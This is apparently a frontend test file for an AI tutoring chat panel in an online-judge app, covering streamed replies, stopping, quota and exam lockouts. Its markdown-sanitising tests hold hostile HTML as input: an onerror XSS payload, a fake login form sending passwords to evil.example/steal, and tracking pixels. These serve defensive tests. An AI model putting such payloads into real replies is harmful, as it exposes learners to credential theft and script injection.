// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { fireEvent, render, screen, waitFor } from '@testing-library/react';
import { http, HttpResponse } from 'msw';
import { MemoryRouter } from 'react-router-dom';
import { ai, type AiMessage } from '../../../contract/ai/calls.ts';
import { ErrorCode } from '../../../contract/errors.ts';
import { wallet } from '../../../contract/wallet/calls.ts';
import { aiChatActorFor } from '../../app/ai-actors.ts';
import { commerceTag } from '../../app/modules/commerce.ts';
import { answer, api, failure, success, TEST_API } from '../../test/fake-api.ts';
import { createTestRuntime, serveFakeApi, withRuntime } from '../../test/test-runtime.tsx';
import { AiChatPanel } from './AiChatPanel.tsx';
import { AiMarkdown, aiMarkdownBlocks } from './AiMarkdown.tsx';

serveFakeApi();

const message = (id: number, role: AiMessage['role'], content: string): AiMessage => ({
  id,
  sessionId: 5,
  role,
  content,
  status: role === 'user' ? 'done' : 'streaming',
  tokens: 0,
  provider: role === 'user' ? null : 'builtin',
  model: null,
  error: null,
  answerId: null,
  createdAt: '2026-11-27T01:00:00.000Z',
  finishedAt: null,
});

const page = <T,>(content: T[]) => ({
  content,
  totalElements: content.length,
  totalPages: 1,
  number: 0,
  size: 20,
});

function walletWith(aiTokens: number) {
  answer(wallet['oj.memberWallet.queryList'], () =>
    success(
      page([
        {
          id: 1,
          memberId: 1,
          memberName: '学员',
          mobile: null,
          organizationName: '机构',
          balanceFen: 0,
          aiTokens,
          status: 'open',
        },
      ]),
    ),
  );
}

const sse = (...blocks: [string, unknown][]) =>
  blocks.map(([event, data]) => `event: ${event}\ndata: ${JSON.stringify(data)}\n\n`).join('');

/** The stream handler: `body` gets a controller to write blocks and end the reply. */
function streamWith(start: (write: (text: string) => void, end: () => void) => void) {
  const seen: string[] = [];
  api.use(
    http.post(`${TEST_API}/oj/aiSession/message/chatStream/:sessionId`, ({ request }) => {
      seen.push(request.url);
      const body = new ReadableStream<Uint8Array>({
        start(controller) {
          start(
            (text) => controller.enqueue(new TextEncoder().encode(text)),
            () => controller.close(),
          );
        },
      });
      return new HttpResponse(body, { headers: { 'content-type': 'text/event-stream' } });
    }),
  );
  return seen;
}

/** Answers the session and message calls; counts the messages sent and the sessions opened. */
function sessionAndMessage() {
  const bodies: unknown[] = [];
  const opened = { sessions: 0 };
  answer(ai['oj.aiSession.create'], async () => {
    opened.sessions += 1;
    return success({
      id: 5,
      title: '为什么错了',
      scene: 'question',
      context: { questionId: 1 },
      messageCount: 0,
      createdAt: '2026-11-27T01:00:00.000Z',
      updatedAt: '2026-11-27T01:00:00.000Z',
    });
  });
  // The body is sealed (envelope-crypto): counted here, its content checked in the e2e test.
  answer(ai['oj.aiSession.message.create'], async (request) => {
    bodies.push(request.url);
    return success({
      question: message(11, 'user', '为什么错了？'),
      reply: message(12, 'assistant', ''),
    });
  });
  return { bodies, opened };
}

function renderPanel(questionId = 1) {
  const runtime = createTestRuntime();
  const actor = aiChatActorFor(runtime, { scene: 'question', context: { questionId } });
  render(
    withRuntime(
      runtime,
      <MemoryRouter>
        <AiChatPanel actor={actor} />
      </MemoryRouter>,
    ),
  );
  return actor;
}

const ask = (text: string) => {
  fireEvent.change(screen.getByLabelText('你的问题'), { target: { value: text } });
  fireEvent.click(screen.getByTestId('ai-send'));
};

describe('aiMarkdownBlocks', () => {
  it('splits code out of sanitised prose', () => {
    const blocks = aiMarkdownBlocks(
      '看第 2 行：<img src=x onerror="alert(1)">\n\n```cpp\nlong long a;\n```\n\n改完再交。',
    );
    expect(blocks.map((b) => b.kind)).toEqual(['html', 'code', 'html']);
    expect(blocks[0]).toMatchObject({ kind: 'html' });
    const prose = document.createElement('div');
    prose.innerHTML = (blocks[0] as { html: string }).html;
    expect(prose.querySelector('img')).toBeNull();
    expect(prose.querySelector('[onerror]')).toBeNull();
    expect(blocks[1]).toEqual({ kind: 'code', lang: 'cpp', text: 'long long a;' });
  });

  it('shows a reply’s raw HTML as text: no form, control, image or style reaches the page', () => {
    const { container } = render(
      <AiMarkdown
        markdown={[
          '**请重新登录**：',
          '<form action="https://evil.example/steal"><input name="password" type="password"><button>登录</button></form>',
          '',
          '行内 <button onclick="x()">点我</button> 和 <span style="position:fixed">盖住</span>',
          '',
          '![追踪](https://evil.example/pixel.png) <img src="https://evil.example/a.png">',
          '',
          '[题解](https://example.com/a)',
        ].join('\n')}
      />,
    );
    for (const tag of ['form', 'input', 'button', 'img', '[style]', '[onclick]']) {
      expect(container.querySelector(`.xa-ai-markdown ${tag}`), tag).toBeNull();
    }
    // Shown as the text it is, not dropped: the learner sees what the model wrote.
    expect(container.textContent).toContain('<form action="https://evil.example/steal">');
    expect(container.textContent).toContain('[追踪]');
    expect(container.querySelector('strong')?.textContent).toBe('请重新登录');
    expect(container.querySelector('a')?.getAttribute('href')).toBe('https://example.com/a');
  });

  it('renders an unclosed fence of a reply still being written as code', () => {
    expect(aiMarkdownBlocks('```py\nprint(')).toEqual([
      { kind: 'code', lang: 'py', text: 'print(' },
    ]);
  });
});

describe('AiChatPanel', () => {
  it('streams a reply as it arrives, with code to copy, the balance and who answered', async () => {
    walletWith(100);
    const { bodies } = sessionAndMessage();
    let finish: (() => void) | undefined;
    const seen = streamWith((write, end) => {
      write(sse(['delta', { seq: 1, text: '第 2 个测试点：' }]));
      finish = () => {
        write(
          sse(
            ['delta', { seq: 2, text: '\n\n```python\nprint(a + b)\n```\n' }],
            ['done', { messageId: 12, status: 'done', tokens: 9, balance: 91 }],
          ),
        );
        end();
      };
    });
    renderPanel();
    await waitFor(() => expect(screen.getByTestId('ai-balance').dataset.balance).toBe('100'));
    ask('为什么错了？');
    await waitFor(() =>
      expect(screen.getByTestId('ai-reply-text').textContent).toContain('第 2 个测试点'),
    );
    // While the reply is written: the stop button, not the send button.
    expect(screen.getByTestId('ai-stop')).toBeTruthy();
    expect(screen.queryByTestId('ai-send')).toBeNull();
    finish!();
    await waitFor(() => expect(screen.getByTestId('ai-reply').dataset.status).toBe('done'));
    expect(screen.getByTestId('ai-code-block').textContent).toContain('print(a + b)');
    expect(screen.getByTestId('ai-balance').dataset.balance).toBe('91');
    expect(screen.getByTestId('ai-provider').textContent).toContain('内置评测辅导');
    expect(screen.getByText('本次消耗 9 点')).toBeTruthy();
    expect(bodies).toHaveLength(1);
    expect(new URL(seen[0]!).searchParams.get('after')).toBe('0');
    expect(new URL(seen[0]!).searchParams.get('messageId')).toBe('12');
  });

  it('stops: asks the server, then shows the reply as stopped', async () => {
    walletWith(100);
    sessionAndMessage();
    let finish: (() => void) | undefined;
    streamWith((write, end) => {
      write(sse(['delta', { seq: 1, text: '先看输入' }]));
      finish = () => {
        write(sse(['done', { messageId: 12, status: 'stopped', tokens: 2, balance: 98 }]));
        end();
      };
    });
    const stops: unknown[] = [];
    answer(ai['oj.aiSession.message.stop'], async (request) => {
      stops.push(request.url);
      finish!();
      return success({ ...message(12, 'assistant', '先看输入'), status: 'stopped', tokens: 2 });
    });
    renderPanel();
    ask('为什么错了？');
    await waitFor(() =>
      expect(screen.getByTestId('ai-reply-text').textContent?.trim()).toBe('先看输入'),
    );
    fireEvent.click(screen.getByTestId('ai-stop'));
    await waitFor(() => expect(screen.getByTestId('ai-reply').dataset.status).toBe('stopped'));
    expect(stops).toHaveLength(1);
    expect(screen.getByText('已停止')).toBeTruthy();
  });

  it('starts a new conversation once a reply is done: the panel empties, the next question opens a new session', async () => {
    walletWith(100);
    const { bodies, opened } = sessionAndMessage();
    streamWith((write, end) => {
      write(
        sse(
          ['delta', { seq: 1, text: '看第 2 个测试点' }],
          ['done', { messageId: 12, status: 'done', tokens: 3, balance: 97 }],
        ),
      );
      end();
    });
    renderPanel();
    // Nothing to set aside yet.
    await waitFor(() => expect(screen.getByTestId('ai-intro')).toBeTruthy());
    expect(screen.queryByTestId('ai-new-conversation')).toBeNull();
    ask('为什么错了？');
    await waitFor(() => expect(screen.getByTestId('ai-reply').dataset.status).toBe('done'));
    fireEvent.click(screen.getByTestId('ai-new-conversation'));
    await waitFor(() => expect(screen.queryByTestId('ai-reply')).toBeNull());
    expect(screen.getByTestId('ai-intro')).toBeTruthy();
    ask('另一个问题');
    await waitFor(() => expect(bodies).toHaveLength(2));
    expect(opened.sessions).toBe(2);
    // The new session's reply streams to its end before the test lets go.
    await waitFor(() => expect(screen.getByTestId('ai-reply').dataset.status).toBe('done'));
  });

  it('out of AI tokens: says so, links to buying more, keeps the question', async () => {
    walletWith(0);
    answer(ai['oj.aiSession.create'], () =>
      success({
        id: 5,
        title: '你好',
        scene: 'question',
        context: {},
        messageCount: 0,
        createdAt: '2026-11-27T01:00:00.000Z',
        updatedAt: '2026-11-27T01:00:00.000Z',
      }),
    );
    answer(ai['oj.aiSession.message.create'], () =>
      failure(ErrorCode.QUOTA_USED_UP, 'AI 额度次数已用完，请购买 AI 额度后继续', 429),
    );
    renderPanel();
    ask('你好');
    const callout = await screen.findByTestId('ai-out-of-tokens');
    expect(callout.textContent).toContain('次数已用完');
    expect(callout.querySelector('a')?.getAttribute('href')).toBe('/activityPackages');
    expect((screen.getByLabelText('你的问题') as HTMLTextAreaElement).value).toBe('你好');
  });

  it('shows the wallet again once it is read after a reply’s balance (tokens were bought)', async () => {
    walletWith(3);
    answer(ai['oj.aiSession.create'], () =>
      success({
        id: 5,
        title: '你好',
        scene: 'question',
        context: {},
        messageCount: 0,
        createdAt: '2026-11-27T01:00:00.000Z',
        updatedAt: '2026-11-27T01:00:00.000Z',
      }),
    );
    answer(ai['oj.aiSession.message.create'], () =>
      failure(ErrorCode.QUOTA_USED_UP, 'AI 额度次数已用完，请购买 AI 额度后继续', 429),
    );
    const runtime = createTestRuntime();
    const actor = aiChatActorFor(runtime, { scene: 'question', context: { questionId: 1 } });
    render(
      withRuntime(
        runtime,
        <MemoryRouter>
          <AiChatPanel actor={actor} />
        </MemoryRouter>,
      ),
    );
    await waitFor(() => expect(screen.getByTestId('ai-balance').dataset.balance).toBe('3'));
    ask('你好');
    await screen.findByTestId('ai-out-of-tokens');
    // The refusal is newer than the wallet read before it.
    expect(screen.getByTestId('ai-balance').dataset.balance).toBe('0');
    walletWith(500);
    runtime.queries.cache.invalidateTags([commerceTag]);
    await waitFor(() => expect(screen.getByTestId('ai-balance').dataset.balance).toBe('500'));
  });

  it('refused during an exam: disabled with the server’s reason, no question box', async () => {
    walletWith(50);
    answer(ai['oj.aiSession.create'], () =>
      success({
        id: 5,
        title: '你好',
        scene: 'question',
        context: {},
        messageCount: 0,
        createdAt: '2026-11-27T01:00:00.000Z',
        updatedAt: '2026-11-27T01:00:00.000Z',
      }),
    );
    answer(ai['oj.aiSession.message.create'], () =>
      failure(ErrorCode.FORBIDDEN, '考试作答中，不能使用 AI 助手', 403),
    );
    renderPanel();
    ask('你好');
    const disabled = await screen.findByTestId('ai-disabled');
    expect(disabled.textContent).toContain('考试作答中，不能使用 AI 助手');
    expect(screen.queryByLabelText('你的问题')).toBeNull();
  });

  it('does not send an empty or oversized question', async () => {
    walletWith(50);
    renderPanel();
    const send = screen.getByTestId('ai-send') as HTMLButtonElement;
    expect(send.disabled).toBe(true);
    fireEvent.change(screen.getByLabelText('你的问题'), { target: { value: 'a'.repeat(4_001) } });
    expect(send.disabled).toBe(true);
    expect(screen.getByText('4001 / 4000 字')).toBeTruthy();
  });
});
